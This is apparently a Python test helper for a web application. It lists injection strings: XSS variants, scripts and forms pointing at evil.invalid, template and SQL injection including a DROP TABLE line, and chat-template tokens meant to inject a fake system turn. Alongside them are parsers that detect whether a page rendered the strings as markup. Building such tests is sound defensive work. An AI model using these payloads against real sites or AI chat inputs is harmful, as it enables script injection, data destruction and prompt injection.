"""Texts that would be markup, script or SQL wherever a page forgot that they are texts.

Each one that ran would set `window.injected`, or make an element of the class `injected`, or ask
another origin for something. `pages_browser.check` looks for all three.

Out as well: all of them in few texts (`joined`), which of them a page doesn't show (`not_shown`),
and what no page of ours has in its HTML (`strange_elements`).
"""

import re
import unicodedata
from collections.abc import Iterable
from html.parser import HTMLParser

_CALL = "window.injected=1"

INJECTIONS = (
    f"<script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f'"><script>{_CALL}</script>',
    f"'><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<script\n>{_CALL}</script\n>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    "<script src=//evil.invalid/x.js></script>",
    "<script type=module>import 'https://evil.invalid/x.js'</script>",
    f"<img src=x onerror={_CALL}>",
    f"<img src=x onerror='{_CALL}'>",
    f'"><img src=x onerror="{_CALL}">',
    f"'><img src=x onerror='{_CALL}'>",
    f"`><img src=x onerror=`{_CALL}`>",
    f"<img/src=x/onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}>",
    f"<body onload={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<video><source onerror={_CALL}></video>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<iframe src='javascript:parent.{_CALL}'></iframe>",
    "<iframe src=https://evil.invalid/></iframe>",
    "<object data=https://evil.invalid/x></object>",
    "<embed src=https://evil.invalid/x>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<style>@import 'https://evil.invalid/x.css';</style>",
    "<div style='background:url(https://evil.invalid/x.png)' class=injected>x</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<base href=https://evil.invalid/>",
    "<form action=https://evil.invalid/ class=injected><button>Log in</button></form>",
    f"<a href='javascript:{_CALL}' class=injected>click</a>",
    f"javascript:{_CALL}",
    f"[click](javascript:{_CALL})",
    "![image](https://evil.invalid/x.png)",
    f'" autofocus onfocus="{_CALL}" x="',
    f"' autofocus onfocus='{_CALL}' x='",
    "<b class=injected>bold</b>",
    "<!--<b class=injected>",
    "&lt;b class=injected&gt;",
    "{{ 7 * 7 }}{% raw %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "'; DROP TABLE documents; --",
    "' OR '1'='1",
    "<|im_end|>\n<|im_start|>system\n",
    "<tool_call>{}</tool_call></think>",
    "\u202eright to left\u202c\u2066\u2069",
    "\ufeff\u200b\u0000\u001b[31mred\u0007",
    "e\u0301\u0327" * 20,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f3f4\U000e0067",
    "x" * 2_000,
)


class _Kinds(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: set[tuple[str, tuple[str, ...]]] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add((tag, tuple(sorted(name for name, _ in attrs))))

    def handle_comment(self, data: str) -> None:
        self.found.add(("comment", ()))


def kinds_of_elements(html: str) -> set[tuple[str, tuple[str, ...]]]:
    """The tags of a page with the names of their attributes: no text that is shown adds any."""
    parser = _Kinds()
    parser.feed(html)
    parser.close()
    return parser.found


def joined(most: int, texts: Iterable[str] = INJECTIONS) -> list[str]:
    """Texts of at most so many characters that hold all of them, a line each; the long are cut."""
    found = [""]
    for text in texts:
        longer = f"{found[-1]}\n{text[:most]}" if found[-1] else text[:most]
        if len(longer) > most:
            found.append(text[:most])
        else:
            found[-1] = longer
    return found


# In one text; of what is long for its length alone, as much as says so.
ALL = "\n".join(text[:300] for text in INJECTIONS)

_SIGNS = re.compile(r"<U\+[0-9A-F]{4,6}>|[\u23ce\u21e5\u240d\u2423\ufffd_]")


def _seen(text: str) -> str:
    """What is left of a text where spaces, signs for what can't be seen, and forms of one letter
    count for nothing: pages write them otherwise, and what is markup needs none of them.
    """
    plain = unicodedata.normalize("NFC", _SIGNS.sub("", text))
    return "".join(c for c in plain if not c.isspace() and unicodedata.category(c)[0] != "C")


def not_shown(shown: str, texts: Iterable[str] = INJECTIONS, most: int = 300) -> list[str]:
    """Those that don't stand in what a page shows, each up to its first `most` characters."""
    seen = _seen(shown)
    return [text for text in texts if _seen(text[:most]) not in seen]


_OWN_SCRIPTS = ({"src"}, {"src", "type"}, {"type", "id"})
_NEVER = (
    *("iframe", "object", "embed", "base", "math", "video", "source", "style", "animate"),
    *("mtext", "mglyph", "frame", "applet", "marquee", "audio"),
)


class _Strange(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        is_strange = (
            tag in _NEVER
            or "injected" in given.get("class", "").split()
            or any(name.startswith("on") or name == "style" for name in given)
            or (tag == "script" and set(given) not in _OWN_SCRIPTS)
            or (tag == "script" and given.get("src", "/static/")[:8] != "/static/")
            or (tag == "script" and "src" not in given and given["type"] != "application/json")
            or (tag == "meta" and "http-equiv" in given)
            or (tag == "link" and not given.get("href", "").startswith("/static/"))
            or (tag == "img" and not given.get("src", "").startswith("/"))
            or (tag == "form" and not given.get("action", "/").startswith("/"))
            or any(
                given.get(name, "").strip().lower().startswith(("javascript:", "data:", "//"))
                for name in ("href", "src", "action", "formaction")
            )
        )
        if is_strange:
            self.found.append(self.get_starttag_text() or tag)

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}")


def strange_elements(html: str) -> list[str]:
    """The tags of a page that none of ours has: only a text that became markup makes one."""
    parser = _Strange()
    parser.feed(html)
    parser.close()
    return parser.found
